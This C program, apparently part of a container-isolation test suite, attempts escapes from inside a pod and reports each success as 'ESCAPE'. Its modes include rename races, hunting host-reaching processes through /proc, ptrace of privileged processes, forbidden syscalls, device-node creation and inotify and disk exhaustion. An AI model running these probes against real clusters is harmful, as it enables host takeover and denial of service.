/* What a tenant tries from inside of a pod. Each way says on a line what came of it; "ESCAPE" begins those that led out.
 *
 *   swap A B...        exchanges the name A with each B in turn, for ever
 *   hunt MARK SECONDS  looks at every process that appears: its root, folder, descriptors, memory and capabilities;
 *                      MARK is a path that only the host has
 *   try                system calls that an unprivileged container has no business with
 *   pages FILE...      opens each for writing and for reading, and says which answered
 *   mounts NAME        whether every mount of a folder NAME of the host is read-only
 *   deep DIR N         a large file N folders below DIR
 *   hold FILE...       makes each immutable (chattr +i)
 *   watch              takes all instances of inotify that its user may have
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void __attribute__((noreturn)) swap(int n, char **names)
{
    printf("swapping\n");
    fflush(stdout);
    for (;;)
        for (int i = 1; i < n; i++)
            renameat2(AT_FDCWD, names[0], AT_FDCWD, names[i], RENAME_EXCHANGE);
}

static unsigned long long caps_of(int pid)
{
    char path[64], line[200];
    unsigned long long caps = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "CapPrm:", 7) == 0)
            caps = strtoull(line + 7, NULL, 16);
    if (f)
        fclose(f);
    return caps;
}

/* Whether a folder of the host's lies at or above what the name opens. */
static int leads_out(const char *name, const char *mark)
{
    int at = open(name, O_PATH | O_DIRECTORY);
    for (int i = 0; at >= 0 && i < 30; i++) {
        if (faccessat(at, mark + 1, F_OK, 0) == 0) {
            close(at);
            return 1;
        }
        int up = openat(at, "..", O_PATH | O_DIRECTORY);
        close(at);
        at = up;
    }
    if (at >= 0)
        close(at);
    return 0;
}

static void look_at(int pid, const char *mark, unsigned long long own)
{
    char path[300], comm[64] = "?";
    static const char *const links[] = {"root", "cwd"};
    unsigned long long caps = caps_of(pid);
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, comm, sizeof comm - 1);
        comm[n > 0 ? n - 1 : 0] = 0;
        close(fd);
    }
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
        if (leads_out(path, mark))
            printf("ESCAPE %s of %d (%s)\n", links[i], pid, comm);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
        if (e->d_name[0] != '.' && leads_out(path, mark))
            printf("ESCAPE descriptor %s of %d (%s)\n", e->d_name, pid, comm);
    }
    if (d)
        closedir(d);
    if (caps & ~own && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        if (caps_of(pid) & ~own) /* still, now that it is ours */
            printf("ESCAPE control of %d (%s) with capabilities %llx\n", pid, comm, caps);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    fflush(stdout);
}

static int hunt(const char *mark, double seconds)
{
    static char seen[1 << 22];
    unsigned long long own = caps_of(getpid());
    double end = now() + seconds;
    int n = 0;
    printf("hunting\n");
    fflush(stdout);
    while (now() < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= (int)sizeof seen || pid == getpid())
                continue;
            if (seen[pid] > 20) /* it has become what it was to be */
                continue;
            n += !seen[pid];
            seen[pid]++;
            look_at(pid, mark, own);
        }
        if (d)
            closedir(d);
    }
    printf("hunted %d\n", n);
    return 0;
}

static void told(const char *what, long answer)
{
    int keep = errno;
    printf("%s: %s\n", what, answer >= 0 ? "ESCAPE allowed" : strerror(keep));
    fflush(stdout);
}

static int try_calls(void)
{
    static const struct {
        const char *name;
        unsigned flag;
    } spaces[] = {{"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"pid", CLONE_NEWPID},       {"net", CLONE_NEWNET},
                  {"ipc", CLONE_NEWIPC},   {"uts", CLONE_NEWUTS},  {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80}};
    char what[64];
    for (size_t i = 0; i < sizeof spaces / sizeof spaces[0]; i++) {
        snprintf(what, sizeof what, "unshare %s", spaces[i].name);
        told(what, unshare((int)spaces[i].flag));
        if (spaces[i].flag == 0x80)
            continue;
        snprintf(what, sizeof what, "clone %s", spaces[i].name);
        long pid = syscall(SYS_clone, spaces[i].flag | SIGCHLD, 0, 0, 0, 0);
        if (pid == 0)
            _exit(0);
        told(what, pid);
        unsigned long long args[11] = {spaces[i].flag, 0, 0, 0, SIGCHLD};
        snprintf(what, sizeof what, "clone3 %s", spaces[i].name);
        pid = syscall(SYS_clone3, args, sizeof args);
        if (pid == 0)
            _exit(0);
        told(what, pid);
    }
    told("setns", setns(open("/proc/1/ns/net", O_RDONLY), 0));
    told("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
    told("remount", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    told("umount", umount2("/proc/sys", MNT_DETACH));
    told("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    told("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    told("pivot_root", syscall(SYS_pivot_root, ".", "."));
    told("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -4));
    told("keyctl", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
    told("request_key", syscall(SYS_request_key, "user", "x", NULL, 0));
    told("bpf", syscall(SYS_bpf, 0, NULL, 0));
    told("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
    told("userfaultfd", syscall(SYS_userfaultfd, 1));
    told("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
    told("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    told("init_module", syscall(SYS_init_module, NULL, 0, ""));
    told("finit_module", syscall(SYS_finit_module, -1, "", 0));
    told("swapon", syscall(SYS_swapon, "/tmp/x", 0));
    told("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
    told("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
    told("acct", syscall(SYS_acct, NULL));
    told("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, 0));
    told("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
    told("syslog", syscall(SYS_syslog, 10, NULL, 0));
    told("sethostname", sethostname("x", 1));
    told("iopl", syscall(SYS_iopl, 3));
    /* any device may be made, none used */
    for (unsigned major_ = 1; major_ < 260; major_++) {
        static const int minors[] = {0, 1, 2, 3, 4, 8, 11, 16, 63, 229};
        for (size_t m = 0; m < sizeof minors / sizeof minors[0]; m++)
            for (int block = 0; block < 2; block++) {
                int usual = !block && ((major_ == 1 && (minors[m] == 3 || minors[m] == 8)) || major_ == 136 ||
                                       (major_ == 5 && minors[m] < 3));
                unlink("/tmp/node");
                if (usual || mknod("/tmp/node", (block ? S_IFBLK : S_IFCHR) | 0666,
                                   makedev(major_, (unsigned)minors[m])) < 0)
                    continue;
                int fd = open("/tmp/node", O_RDONLY | O_NONBLOCK);
                if (fd >= 0 || errno != EPERM)
                    printf("ESCAPE device %s %u:%d: %s\n", block ? "b" : "c", major_, minors[m],
                           fd >= 0 ? "opened" : strerror(errno));
                if (fd >= 0)
                    close(fd);
            }
    }
    printf("tried\n");
    return 0;
}

static int pages(int n, char **names)
{
    for (int i = 0; i < n; i++) {
        int w = open(names[i], O_WRONLY), r = open(names[i], O_RDONLY);
        char byte;
        struct stat st;
        if (w >= 0 && fstat(w, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3)) {
            close(w); /* /dev/null stands before it */
            w = -1;
        }
        printf("%s:%s%s\n", names[i], w >= 0 ? " ESCAPE writable" : "",
               r >= 0 && read(r, &byte, 1) > 0 ? " readable" : "");
        close(w);
        close(r);
    }
    return 0;
}

static int mounts(const char *name)
{
    char line[4096], root[2048], point[2048], options[512];
    FILE *f = fopen("/proc/self/mountinfo", "r");
    int n = 0;
    while (f && fgets(line, sizeof line, f)) {
        const char *last;
        if (sscanf(line, "%*s %*s %*s %2047s %2047s %511s", root, point, options) != 3 || !(last = strrchr(root, '/')) ||
            strcmp(last + 1, name) != 0)
            continue;
        n++;
        if (strncmp(options, "ro", 2) != 0)
            printf("ESCAPE %s is %s\n", point, options);
    }
    printf("looked at %d\n", n);
    return n == 0;
}

static int deep(const char *dir, int n)
{
    static char block[1 << 20];
    int at = open(dir, O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < n; i++) {
        mkdirat(at, "d", 0755);
        int next = openat(at, "d", O_RDONLY | O_DIRECTORY);
        close(at);
        at = next;
    }
    int fd = openat(at, "large", O_WRONLY | O_CREAT, 0644);
    for (int i = 0; i < 4; i++)
        if (write(fd, block, sizeof block) != (ssize_t)sizeof block)
            perror("large");
    printf("deep\n");
    return 0;
}

static int hold(int n, char **names)
{
    for (int i = 0; i < n; i++) {
        int flags = 0, fd = open(names[i], O_RDONLY);
        if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0 ||
            (flags |= FS_IMMUTABLE_FL, ioctl(fd, FS_IOC_SETFLAGS, &flags)) < 0)
            printf("%s: %s\n", names[i], strerror(errno));
    }
    printf("held\n");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc > 3 && strcmp(argv[1], "swap") == 0)
        swap(argc - 2, argv + 2);
    if (argc == 4 && strcmp(argv[1], "hunt") == 0)
        return hunt(argv[2], atof(argv[3]));
    if (argc == 2 && strcmp(argv[1], "try") == 0)
        return try_calls();
    if (argc > 2 && strcmp(argv[1], "pages") == 0)
        return pages(argc - 2, argv + 2);
    if (argc == 3 && strcmp(argv[1], "mounts") == 0)
        return mounts(argv[2]);
    if (argc == 4 && strcmp(argv[1], "deep") == 0)
        return deep(argv[2], atoi(argv[3]));
    if (argc > 2 && strcmp(argv[1], "hold") == 0)
        return hold(argc - 2, argv + 2);
    if (argc == 2 && strcmp(argv[1], "watch") == 0) {
        while (inotify_init1(0) >= 0) {
        }
        printf("%s\n", strerror(errno));
        fflush(stdout);
        pause();
    }
    fprintf(stderr, "attack swap|hunt|try|pages|mounts|deep|hold|watch ...\n");
    return 2;
}
